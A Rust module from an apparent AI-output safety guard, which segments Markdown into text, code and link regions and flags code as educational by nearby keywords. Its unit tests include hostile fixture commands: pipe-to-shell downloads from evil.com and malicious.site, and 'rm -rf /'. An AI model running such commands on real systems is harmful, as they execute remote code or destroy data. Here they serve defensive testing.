//! Context-aware parsing: segment normalized text into non-overlapping
//! text / code / link regions with absolute offsets.
//!
//! Detectors report spans into the normalized text; the parser's segment
//! tree is what turns a span into a context (`text`, `code`, `link`) and
//! an explain-only flag, which the evaluator uses for risk adjustment and
//! the optional block bypass.
//!
//! ## Recognized Markdown
//!
//! - Fenced code blocks (dotall, optional language tag)
//! - Inline code outside fences
//! - Markdown links outside any code
//! - Raw `http(s)` URLs outside code and links
//!
//! Gaps between recognized regions become `text` segments; whitespace-only
//! gaps are dropped. Segments are emitted in ascending start order and
//! never overlap.
//!
//! ## Explain-only classification
//!
//! Code segments are classified as educational when the 200 characters of
//! context on each side contain an educational phrase. An optional
//! pre-classifier can override the heuristic; in shadow mode the
//! disagreement triple `(ml_pred, heuristic, final)` is recorded to
//! metrics while the final value is still acted on. A classifier failure
//! falls back to the heuristic and never aborts parsing.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::sync::LazyLock;
use tracing::debug;

use crate::preclassifier::PreClassifier;
use guard_policy::FindingContext;
use guard_telemetry::metrics;

/// Phrases that mark surrounding code as educational/demonstrative.
pub const EDUCATIONAL_KEYWORDS: &[&str] = &[
    "example",
    "warning",
    "do not run",
    "tutorial",
    "for educational",
    "anti-pattern",
    "dangerous",
    "unsafe",
    "vulnerable",
    "demonstration",
    "illustration",
    "never run",
    "avoid running",
    "for learning",
    "educational purposes",
    "caution",
    "risky",
    "harmful",
    "malicious example",
];

/// Characters of context examined on each side of a code segment.
const EXPLAIN_ONLY_WINDOW: usize = 200;

static FENCED_CODE_REGEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)```([A-Za-z0-9_+.\-]*)\r?\n(.*?)```").unwrap());

static INLINE_CODE_REGEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"`([^`\n]+)`").unwrap());

static MARKDOWN_LINK_REGEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\[([^\]\n]*)\]\(([^)\s]+)\)").unwrap());

static RAW_URL_REGEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)\bhttps?://[^\s<>)\]"']+"#).unwrap());

/// The kind of region a segment covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SegmentKind {
    Text,
    Code,
    Link,
}

impl SegmentKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            SegmentKind::Text => "text",
            SegmentKind::Code => "code",
            SegmentKind::Link => "link",
        }
    }
}

impl From<SegmentKind> for FindingContext {
    fn from(kind: SegmentKind) -> Self {
        match kind {
            SegmentKind::Text => FindingContext::Text,
            SegmentKind::Code => FindingContext::Code,
            SegmentKind::Link => FindingContext::Link,
        }
    }
}

/// One parsed region of the normalized text.
///
/// `start`/`end` are half-open byte offsets into the normalized text. For
/// inline code, `content` is the inner text without backticks while the
/// span still covers the backticks, keeping the segment list gap-free.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Segment {
    pub kind: SegmentKind,
    pub content: String,
    pub start: usize,
    pub end: usize,
    /// Fence language tag; `Some("")` for a bare fence.
    #[serde(default)]
    pub language: Option<String>,
    /// Link target for link segments.
    #[serde(default)]
    pub url: Option<String>,
    /// Visible text of a markdown link.
    #[serde(default)]
    pub link_text: Option<String>,
    /// True for fenced (as opposed to inline) code.
    #[serde(default)]
    pub fenced: bool,
    /// True when classified as educational/demonstrative.
    #[serde(default)]
    pub explain_only: bool,
}

impl Segment {
    fn new(kind: SegmentKind, content: impl Into<String>, start: usize, end: usize) -> Self {
        Self {
            kind,
            content: content.into(),
            start,
            end,
            language: None,
            url: None,
            link_text: None,
            fenced: false,
            explain_only: false,
        }
    }
}

/// The parsed view shared by detectors and the evaluator.
#[derive(Debug, Clone, Default)]
pub struct ParsedContent {
    pub text: String,
    pub segments: Vec<Segment>,
    pub metadata: serde_json::Map<String, serde_json::Value>,
}

impl ParsedContent {
    /// A single-text-segment view used when context parsing is disabled.
    pub fn plain(text: impl Into<String>, metadata: serde_json::Map<String, serde_json::Value>) -> Self {
        let text = text.into();
        let segments = if text.is_empty() {
            Vec::new()
        } else {
            vec![Segment::new(SegmentKind::Text, text.clone(), 0, text.len())]
        };
        Self {
            text,
            segments,
            metadata,
        }
    }

    /// The segment containing byte `offset`, if any.
    pub fn segment_at(&self, offset: usize) -> Option<&Segment> {
        self.segments
            .iter()
            .find(|s| s.start <= offset && offset < s.end)
    }

    /// All segments overlapping `[start, end)`.
    pub fn segments_in_range(&self, start: usize, end: usize) -> Vec<&Segment> {
        self.segments
            .iter()
            .filter(|s| s.start < end && start < s.end)
            .collect()
    }

    pub fn has_code_segments(&self) -> bool {
        self.segments.iter().any(|s| s.kind == SegmentKind::Code)
    }

    pub fn has_explain_only_segments(&self) -> bool {
        self.segments.iter().any(|s| s.explain_only)
    }

    /// Context lookup for a finding span: the segment containing the span
    /// start wins; outside all segments defaults to plain text.
    pub fn context_for_span(&self, start: usize, _end: usize) -> (SegmentKind, bool) {
        match self.segment_at(start) {
            Some(segment) => (segment.kind, segment.explain_only),
            None => (SegmentKind::Text, false),
        }
    }
}

/// Parsing knobs; a default value parses with the heuristic classifier
/// enabled and no ML.
#[derive(Default)]
pub struct ParseOptions<'a> {
    /// Run the explain-only classifier over code segments.
    pub detect_explain_only: bool,
    /// Optional ML override for the explain-only heuristic.
    pub preclassifier: Option<&'a dyn PreClassifier>,
    /// Record ML/heuristic disagreements to metrics.
    pub shadow_mode: bool,
}

/// Segment `text` into non-overlapping text/code/link regions.
pub fn parse_content(
    text: &str,
    metadata: serde_json::Map<String, serde_json::Value>,
    options: &ParseOptions<'_>,
) -> ParsedContent {
    let mut segments: Vec<Segment> = Vec::new();

    // Fenced code blocks take precedence over everything else.
    for caps in FENCED_CODE_REGEX.captures_iter(text) {
        let whole = caps.get(0).expect("group 0 always present");
        let language = caps.get(1).map(|m| m.as_str().to_string()).unwrap_or_default();
        let mut segment = Segment::new(SegmentKind::Code, whole.as_str(), whole.start(), whole.end());
        segment.language = Some(language);
        segment.fenced = true;
        segments.push(segment);
    }

    // Inline code outside fences. The span covers the backticks, the
    // content is the inner text.
    let fenced_spans: Vec<(usize, usize)> = segments.iter().map(|s| (s.start, s.end)).collect();
    for caps in INLINE_CODE_REGEX.captures_iter(text) {
        let whole = caps.get(0).expect("group 0 always present");
        if overlaps_any(&fenced_spans, whole.start(), whole.end()) {
            continue;
        }
        let inner = caps.get(1).expect("inline group").as_str();
        let mut segment = Segment::new(SegmentKind::Code, inner, whole.start(), whole.end());
        segment.language = None;
        segment.fenced = false;
        segments.push(segment);
    }

    // Markdown links outside any code.
    let code_spans: Vec<(usize, usize)> = segments.iter().map(|s| (s.start, s.end)).collect();
    for caps in MARKDOWN_LINK_REGEX.captures_iter(text) {
        let whole = caps.get(0).expect("group 0 always present");
        if overlaps_any(&code_spans, whole.start(), whole.end()) {
            continue;
        }
        let mut segment =
            Segment::new(SegmentKind::Link, whole.as_str(), whole.start(), whole.end());
        segment.link_text = Some(caps.get(1).expect("text group").as_str().to_string());
        segment.url = Some(caps.get(2).expect("url group").as_str().to_string());
        segments.push(segment);
    }

    // Raw URLs outside code and links.
    let taken_spans: Vec<(usize, usize)> = segments.iter().map(|s| (s.start, s.end)).collect();
    for m in RAW_URL_REGEX.find_iter(text) {
        if overlaps_any(&taken_spans, m.start(), m.end()) {
            continue;
        }
        let mut segment = Segment::new(SegmentKind::Link, m.as_str(), m.start(), m.end());
        segment.url = Some(m.as_str().to_string());
        segments.push(segment);
    }

    segments.sort_by_key(|s| s.start);

    // Fill gaps with text segments, dropping whitespace-only gaps.
    let mut all_segments: Vec<Segment> = Vec::with_capacity(segments.len() * 2 + 1);
    let mut cursor = 0usize;
    for segment in segments {
        if cursor < segment.start {
            push_text_gap(&mut all_segments, text, cursor, segment.start);
        }
        cursor = cursor.max(segment.end);
        all_segments.push(segment);
    }
    if cursor < text.len() {
        push_text_gap(&mut all_segments, text, cursor, text.len());
    }

    if options.detect_explain_only {
        classify_explain_only(text, &mut all_segments, options);
    }

    debug!(
        segments = all_segments.len(),
        code = all_segments.iter().filter(|s| s.kind == SegmentKind::Code).count(),
        links = all_segments.iter().filter(|s| s.kind == SegmentKind::Link).count(),
        "parsed content"
    );

    ParsedContent {
        text: text.to_string(),
        segments: all_segments,
        metadata,
    }
}

fn push_text_gap(segments: &mut Vec<Segment>, text: &str, start: usize, end: usize) {
    let content = &text[start..end];
    if content.trim().is_empty() {
        return;
    }
    segments.push(Segment::new(SegmentKind::Text, content, start, end));
}

fn overlaps_any(spans: &[(usize, usize)], start: usize, end: usize) -> bool {
    spans.iter().any(|&(s, e)| s < end && start < e)
}

fn classify_explain_only(text: &str, segments: &mut [Segment], options: &ParseOptions<'_>) {
    for segment in segments.iter_mut() {
        if segment.kind != SegmentKind::Code {
            continue;
        }
        let heuristic = heuristic_explain_only(text, segment.start, segment.end);
        let mut ml_pred: Option<String> = None;
        let final_value = match options.preclassifier {
            Some(classifier) => match classifier.predict(&segment.content) {
                Ok(label) => {
                    let decided = match label.as_str() {
                        "educational" | "explain_only" | "text" => Some(true),
                        "command" | "executable" | "malicious" => Some(false),
                        _ => None,
                    };
                    ml_pred = Some(label);
                    decided.unwrap_or(heuristic)
                }
                Err(err) => {
                    debug!(%err, "pre-classifier failed; using heuristic");
                    heuristic
                }
            },
            None => heuristic,
        };

        if options.shadow_mode {
            metrics().observe_ml_shadow(
                ml_pred.as_deref().unwrap_or("none"),
                if heuristic { "true" } else { "false" },
                if final_value { "true" } else { "false" },
            );
        }

        segment.explain_only = final_value;
    }
}

/// Heuristic: an educational phrase within 200 characters on either side.
fn heuristic_explain_only(text: &str, start: usize, end: usize) -> bool {
    let window_start = step_chars_back(text, start, EXPLAIN_ONLY_WINDOW);
    let window_end = step_chars_forward(text, end, EXPLAIN_ONLY_WINDOW);
    let window = text[window_start..window_end].to_lowercase();
    EDUCATIONAL_KEYWORDS
        .iter()
        .any(|keyword| window.contains(keyword))
}

fn step_chars_back(text: &str, mut idx: usize, count: usize) -> usize {
    for _ in 0..count {
        match text[..idx].chars().next_back() {
            Some(c) => idx -= c.len_utf8(),
            None => break,
        }
    }
    idx
}

fn step_chars_forward(text: &str, mut idx: usize, count: usize) -> usize {
    for _ in 0..count {
        match text[idx..].chars().next() {
            Some(c) => idx += c.len_utf8(),
            None => break,
        }
    }
    idx
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(text: &str) -> ParsedContent {
        parse_content(text, serde_json::Map::new(), &ParseOptions::default())
    }

    fn parse_with_explain(text: &str) -> ParsedContent {
        parse_content(
            text,
            serde_json::Map::new(),
            &ParseOptions {
                detect_explain_only: true,
                ..Default::default()
            },
        )
    }

    fn code_segments(parsed: &ParsedContent) -> Vec<&Segment> {
        parsed.segments.iter().filter(|s| s.kind == SegmentKind::Code).collect()
    }

    fn link_segments(parsed: &ParsedContent) -> Vec<&Segment> {
        parsed.segments.iter().filter(|s| s.kind == SegmentKind::Link).collect()
    }

    #[test]
    fn simple_fenced_block_with_language() {
        let text = "Before\n```python\nprint('hello')\n```\nAfter";
        let parsed = parse(text);
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert!(code[0].content.contains("print('hello')"));
        assert_eq!(code[0].language.as_deref(), Some("python"));
        assert!(code[0].fenced);
    }

    #[test]
    fn fenced_block_without_language() {
        let parsed = parse("```\nsome code\n```");
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert_eq!(code[0].language.as_deref(), Some(""));
    }

    #[test]
    fn multiple_fenced_blocks() {
        let parsed = parse("```bash\ncurl | bash\n```\ntext\n```python\nimport os\n```");
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 2);
        assert_eq!(code[0].language.as_deref(), Some("bash"));
        assert_eq!(code[1].language.as_deref(), Some("python"));
    }

    #[test]
    fn fenced_block_offsets_match_the_text() {
        let text = "ABC```python\ncode\n```XYZ";
        let parsed = parse(text);
        let code = code_segments(&parsed);
        assert_eq!(&text[code[0].start..code[0].end], "```python\ncode\n```");
    }

    #[test]
    fn inline_code_content_excludes_backticks() {
        let parsed = parse("Use `curl` to download files");
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert_eq!(code[0].content, "curl");
        assert!(!code[0].fenced);
    }

    #[test]
    fn multiple_inline_codes() {
        let parsed = parse("Run `ls` then `cd` into directory");
        assert_eq!(code_segments(&parsed).len(), 2);
    }

    #[test]
    fn inline_code_inside_fence_is_not_split_out() {
        let parsed = parse("```python\nuse `print` here\n```");
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert!(code[0].fenced);
    }

    #[test]
    fn markdown_link_with_text_and_url() {
        let parsed = parse("Click [here](https://example.com) for more");
        let links = link_segments(&parsed);
        assert_eq!(links.len(), 1);
        assert_eq!(links[0].url.as_deref(), Some("https://example.com"));
        assert_eq!(links[0].link_text.as_deref(), Some("here"));
    }

    #[test]
    fn raw_url_becomes_a_link_segment() {
        let parsed = parse("Visit https://example.com for details");
        let links = link_segments(&parsed);
        assert_eq!(links.len(), 1);
        assert_eq!(links[0].url.as_deref(), Some("https://example.com"));
    }

    #[test]
    fn url_inside_code_is_not_a_link() {
        let parsed = parse("```bash\ncurl https://api.example.com\n```");
        assert_eq!(link_segments(&parsed).len(), 0);
    }

    #[test]
    fn url_inside_markdown_link_is_not_duplicated() {
        let parsed = parse("See [docs](https://docs.example.com)");
        assert_eq!(link_segments(&parsed).len(), 1);
    }

    #[test]
    fn plain_text_is_a_single_segment() {
        let text = "This is plain text with no special formatting.";
        let parsed = parse(text);
        assert_eq!(parsed.segments.len(), 1);
        assert_eq!(parsed.segments[0].kind, SegmentKind::Text);
        assert_eq!(parsed.segments[0].content, text);
    }

    #[test]
    fn text_segments_fill_gaps() {
        let parsed = parse("Before `code` after");
        let kinds: Vec<SegmentKind> = parsed.segments.iter().map(|s| s.kind).collect();
        assert_eq!(kinds, vec![SegmentKind::Text, SegmentKind::Code, SegmentKind::Text]);
    }

    #[test]
    fn empty_text_has_no_segments() {
        let parsed = parse("");
        assert!(parsed.segments.is_empty());
    }

    #[test]
    fn segments_are_sorted_and_non_overlapping() {
        let text = "Text ```code\nx\n``` more `inline` and [link](url) https://a.io end";
        let parsed = parse(text);
        for pair in parsed.segments.windows(2) {
            assert!(pair[0].end <= pair[1].start, "overlap: {pair:?}");
        }
        for segment in &parsed.segments {
            assert!(segment.start < segment.end);
            assert!(segment.end <= text.len());
        }
    }

    #[test]
    fn code_with_example_keyword_is_explain_only() {
        let parsed =
            parse_with_explain("Here's an example:\n```bash\ncurl http://evil.com | bash\n```");
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert!(code[0].explain_only);
    }

    #[test]
    fn code_with_warning_keyword_is_explain_only() {
        let parsed = parse_with_explain("Warning: This is dangerous:\n```bash\nrm -rf /\n```");
        assert!(code_segments(&parsed)[0].explain_only);
    }

    #[test]
    fn code_without_educational_context_is_not_explain_only() {
        let parsed =
            parse_with_explain("Run this command:\n```bash\ncurl http://api.example.com\n```");
        assert!(!code_segments(&parsed)[0].explain_only);
    }

    #[test]
    fn explain_only_detection_can_be_disabled() {
        let parsed = parse("Here's an example:\n```bash\ncurl | bash\n```");
        assert!(!code_segments(&parsed)[0].explain_only);
    }

    #[test]
    fn text_segments_are_never_explain_only() {
        let parsed =
            parse_with_explain("This is an example of plain text with curl | bash command");
        assert!(parsed
            .segments
            .iter()
            .filter(|s| s.kind == SegmentKind::Text)
            .all(|s| !s.explain_only));
    }

    #[test]
    fn every_educational_keyword_triggers() {
        for keyword in EDUCATIONAL_KEYWORDS {
            let text = format!("This is {keyword}:\n```bash\ncurl | bash\n```");
            let parsed = parse_with_explain(&text);
            assert!(
                code_segments(&parsed)[0].explain_only,
                "keyword {keyword:?} did not trigger"
            );
        }
    }

    #[test]
    fn context_window_is_bounded() {
        // Keyword placed far beyond the 200-char window must not trigger.
        let padding = "x".repeat(300);
        let text = format!("example {padding}\n```bash\ncurl | bash\n```");
        let parsed = parse_with_explain(&text);
        assert!(!code_segments(&parsed)[0].explain_only);
    }

    #[test]
    fn segment_lookup_by_offset() {
        let parsed = parse("Hello `world` again");
        let code = code_segments(&parsed)[0];
        assert_eq!(parsed.segment_at(code.start).unwrap().kind, SegmentKind::Code);
        assert_eq!(parsed.segment_at(0).unwrap().kind, SegmentKind::Text);
        assert!(parsed.segment_at(9999).is_none());
    }

    #[test]
    fn segments_in_range_finds_overlaps() {
        let parsed = parse("Hello `world` again");
        let found = parsed.segments_in_range(3, 8);
        assert_eq!(found.len(), 2);
    }

    #[test]
    fn context_for_span_defaults_to_text() {
        let parsed = ParsedContent::plain("Hello world", serde_json::Map::new());
        let (kind, explain_only) = parsed.context_for_span(0, 5);
        assert_eq!(kind, SegmentKind::Text);
        assert!(!explain_only);

        let empty = ParsedContent::default();
        let (kind, _) = empty.context_for_span(0, 5);
        assert_eq!(kind, SegmentKind::Text);
    }

    #[test]
    fn unclosed_fence_degrades_to_text() {
        let text = "```python\nunclosed code";
        let parsed = parse(text);
        assert_eq!(parsed.text, text);
        assert!(code_segments(&parsed).is_empty());
    }

    #[test]
    fn empty_fence_parses() {
        let parsed = parse("```\n```");
        assert_eq!(parsed.text, "```\n```");
    }

    #[test]
    fn malformed_link_is_plain_text() {
        let parsed = parse("[incomplete link(missing bracket");
        assert!(link_segments(&parsed).is_empty());
        assert!(!parsed.segments.is_empty());
    }

    #[test]
    fn unicode_content_is_preserved() {
        let text = "文字 ```python\nprint('こんにちは')\n``` 日本語";
        let parsed = parse(text);
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert!(code[0].content.contains("こんにちは"));
    }

    #[test]
    fn typical_llm_response_parses_fully() {
        let text = "Here's how to install the package:\n\n```bash\npip install example-package\n```\n\nThen use it:\n\n```python\nimport example\nexample.run()\n```\n\nFor more, visit [our docs](https://docs.example.com).\n";
        let parsed = parse_with_explain(text);
        assert_eq!(code_segments(&parsed).len(), 2);
        assert_eq!(link_segments(&parsed).len(), 1);
    }

    #[test]
    fn security_tutorial_code_is_explain_only() {
        let text = "Warning: Never run untrusted commands. Here's an example of a dangerous pattern:\n\n```bash\ncurl http://malicious.site/script.sh | bash\n```\n\nThis downloads and executes arbitrary code.\n";
        let parsed = parse_with_explain(text);
        let code = code_segments(&parsed);
        assert_eq!(code.len(), 1);
        assert!(code[0].explain_only);
    }

    #[test]
    fn metadata_passes_through() {
        let mut metadata = serde_json::Map::new();
        metadata.insert("tenant".to_string(), serde_json::Value::from("acme"));
        let parsed = parse_content(
            "text",
            metadata.clone(),
            &ParseOptions::default(),
        );
        assert_eq!(parsed.metadata, metadata);
    }
}
